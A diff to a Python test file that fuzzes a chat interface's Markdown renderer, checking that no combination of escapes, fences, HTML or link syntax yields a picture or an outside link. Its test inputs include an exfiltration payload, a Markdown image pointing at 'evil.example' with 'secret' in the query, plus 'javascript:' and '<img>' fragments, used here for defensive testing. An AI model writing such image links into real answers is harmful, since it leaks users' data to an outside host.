@@ -1,10 +1,12 @@
 import re
 
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from basicchat.ui.text import answer_markdown, plain, shorten
+
+markdown_it = pytest.importorskip("markdown_it", reason="another reader of Markdown is not installed")
 
 
 @pytest.mark.parametrize(
@@ -15,7 +17,7 @@ from basicchat.ui.text import answer_markdown, plain, shorten
         ("Yes [1, 2].", "Yes [1](#source-t-1)[2](#source-t-2)."),
         ("No [7].", "No \\[7\\]."),
         ("`a[1]` is code", "`a[1]` is code"),
-        ("```\na[1] ![x](http://evil.example)\n```", "```\na[1] ![x](http://evil.example)\n```"),
+        ("```\na[1] ![x](http://evil.example)\n```", "```\na[1] ![x](http://evil.example)\n```\n"),
         ("costs $5 and $6", "costs \\$5 and \\$6"),
     ],
 )
@@ -55,7 +57,7 @@ def test_whatever_it_says_every_open_bracket_outside_code_is_a_chip(text):
 
 
 def test_a_fence_left_open_while_streaming_is_code_to_the_end():
-    assert answer_markdown("```python\nx[1]", key="t", numbers={1}).endswith("x[1]")
+    assert answer_markdown("```python\nx[1]", key="t", numbers={1}).endswith("x[1]\n```\n")
 
 
 def test_plain_text_means_nothing():
@@ -104,3 +106,94 @@ def test_marks_add_nothing_but_our_own_directive(text, data):
     assert not {"\ue000", "\ue001"} & set(shown)
     plain_brackets = re.sub(r":gray-background\[", "", shown)
     assert "](http" not in re.sub(r"`[^`]*`|(?s:```.*)|(?s:~~~.*)", "", plain_brackets)
+
+
+# ---------------------------------------------------------------- nothing that leads out
+
+OUT = "![x](https://evil.example/i?q=secret)"
+PIECES = (
+    *(
+        "`",
+        "``",
+        "```",
+        "~~~",
+        "\\",
+        "\n",
+        "\n\n",
+        " ",
+        "  ",
+        "    ",
+        "> ",
+        "- ",
+        "1. ",
+        "|",
+        "|-|-|\n",
+        "a",
+        "py",
+        "_",
+        "*",
+    ),
+    *(
+        "[",
+        "]",
+        "![",
+        "](",
+        ")",
+        "(",
+        "<",
+        ">",
+        "&#91;",
+        ":",
+        "//evil.example",
+        "https://evil.example",
+        "www.evil.example",
+    ),
+    *(
+        "[a]: //evil.example\n",
+        "[1]",
+        "<img src=x>",
+        "javascript:x",
+        "a@evil.example",
+        OUT,
+        "\ue000",
+        "\ue001",
+        "\ue002",
+    ),
+)
+
+
+def leading_out(markdown: str) -> list[str]:
+    """Pictures, HTML, and links elsewhere than to a source, as another reader of Markdown finds them."""
+    parser = markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"])
+    tokens = [token for block in parser.parse(markdown) for token in (block, *(block.children or ()))]
+    links = [str(token.attrGet("href")) for token in tokens if token.type == "link_open"]
+    live = [token.type for token in tokens if token.type in ("image", "html_inline", "html_block")]
+    texts = [token.content for token in tokens if token.type == "text"]
+    bare = [found for text in texts for found in re.findall(r"(?:https?://|www\.)\S*", text)]  # the page links these
+    return [*live, *bare, *(link for link in links if not link.startswith("#source-"))]
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        f"\\`{OUT}\\`",
+        f"``` a ` b\n{OUT}",
+        f"- x\n  ```\n{OUT}",
+        f"|`x|{OUT}`|\n|-|-|\n",
+        f"`a\\` {OUT}`",
+        "\\https://evil.example/",
+        "_www.evil.example",
+        "https\\://evil.example",
+        "https:&#47;&#47;evil.example",
+        "\\\\[x\n\\\\](//evil.example)",
+    ],
+)
+def test_no_way_of_writing_makes_a_picture_or_an_outside_link(said):
+    assert leading_out(answer_markdown(said, key="t", numbers={1})) == []
+
+
+@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join))
+@settings(max_examples=400, deadline=None)
+def test_no_mixture_of_signs_does_either(said):
+    assert leading_out(answer_markdown(said, key="t", numbers={1})) == []
+    assert leading_out(plain(said)) == []
